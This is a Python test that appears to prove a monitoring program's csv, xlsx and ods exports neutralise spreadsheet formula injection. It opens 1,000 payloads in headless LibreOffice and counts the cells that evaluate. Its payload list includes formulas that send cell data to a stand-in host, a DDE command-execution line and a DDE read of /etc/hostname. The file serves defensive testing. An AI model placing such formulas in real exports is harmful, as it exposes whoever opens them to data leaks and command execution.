"""No text in an export becomes a formula: a thousand payloads, opened in LibreOffice.

Each sheet format is written as the program writes it, opened by LibreOffice without a screen, and
written again as its flat XML, in which a formula is an attribute of its cell. A csv is opened with
formulas switched on. The same payloads, not escaped, must evaluate: else nothing was proven.
"""

import csv
import random
import re
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

from monitoring.reporting.escaping import escape
from monitoring.reporting.sheets import write
from tests.tools.prove import Figure

COUNT = 1000
OPENINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", " =", "\ufeff=", "\u200b=", "\xa0=")
WIDE = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
BODIES = (
    "1+1",
    "SUM(1;2)",
    "SUM(1,2)",
    'HYPERLINK("http://voorbeeld.example/?"&A1;"klik")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://voorbeeld.example/")',
    'DDE("soffice";"/etc/hostname";"A1")',
    "IMPORTXML(CONCAT(A1))",
    '"x"&A2',
    "RAND()",
    "NOW()",
    "$A$1*2",
)
# Separator, quote, UTF-8, first row, columns, language, quoted as text, special numbers, then
# export flags, sheet, and the last but not least: evaluate formulas.
CSV_OPTIONS = "44,34,76,1,,1033,false,true,false,false,false,0,true"


def payloads() -> list[str]:
    """The same thousand each time: every opening with every body, and mixtures of them."""
    found = [f"{o}{body}" for o in (*OPENINGS, *WIDE) for body in BODIES]
    rnd = random.Random(5)
    while len(found) < COUNT:
        lead = "".join(rnd.sample((" ", "\t", "\n", "\r", "\xa0", "\u200b"), 2))
        found.append(f"{lead}{rnd.sample(OPENINGS, 1)[0]}{rnd.sample(BODIES, 1)[0]}")
    return found[:COUNT]


def program() -> str | None:
    """LibreOffice on this machine."""
    return next((p for name in ("soffice", "libreoffice") if (p := shutil.which(name))), None)


def formulas(office: str, path: Path) -> tuple[int, int]:
    """How many cells LibreOffice reads as a formula in a file, and how many it reads as text."""
    with tempfile.TemporaryDirectory(prefix="dm-office-") as profile:
        command = [office, f"-env:UserInstallation=file://{profile}", "--headless"]
        if path.suffix == ".csv":
            command.append(f"--infilter=CSV:{CSV_OPTIONS}")
        command += ["--convert-to", "fods", "--outdir", str(path.parent / "flat"), str(path)]
        subprocess.run(command, check=True, capture_output=True, timeout=300)
    flat = (path.parent / "flat" / f"{path.stem}.fods").read_text(encoding="utf-8")
    return len(re.findall(r"table:formula=", flat)), flat.count('office:value-type="string"')


def prove() -> Iterator[Figure]:
    office = program()
    if office is None:
        missing = "LibreOffice is not installed: apt-get install libreoffice-calc-nogui"
        yield Figure(f"{COUNT} payloads opened in LibreOffice", missing, holds=False)
        return
    texts = payloads()
    with tempfile.TemporaryDirectory(prefix="dm-formulas-") as name:
        folder = Path(name)
        for form in ("csv", "xlsx", "ods"):
            path = folder / f"{form}.{form}"
            rows = [[text, text] for text in texts]
            path.write_bytes(
                write(form, ["naam", "nota"], rows, [["nota", text] for text in texts])
            )
            found, words = formulas(office, path)
            yield Figure(
                f"{COUNT} payloads in {form}, opened in LibreOffice",
                f"{found} evaluated, {words} cells of text",
                holds=found == 0 and words >= COUNT,
            )
        bare = folder / "bare.csv"
        with bare.open("w", newline="", encoding="utf-8") as file:
            csv.writer(file).writerows([text.replace("\0", "")] for text in texts)
        found, _words = formulas(office, bare)
        yield Figure(
            "the same payloads, not escaped, in csv",
            f"{found} evaluated",
            holds=found > 10,
        )
    unchanged = sum(escape(text) == text for text in texts)
    yield Figure(
        "payloads that the program lets through as they are", str(unchanged), unchanged == 0
    )
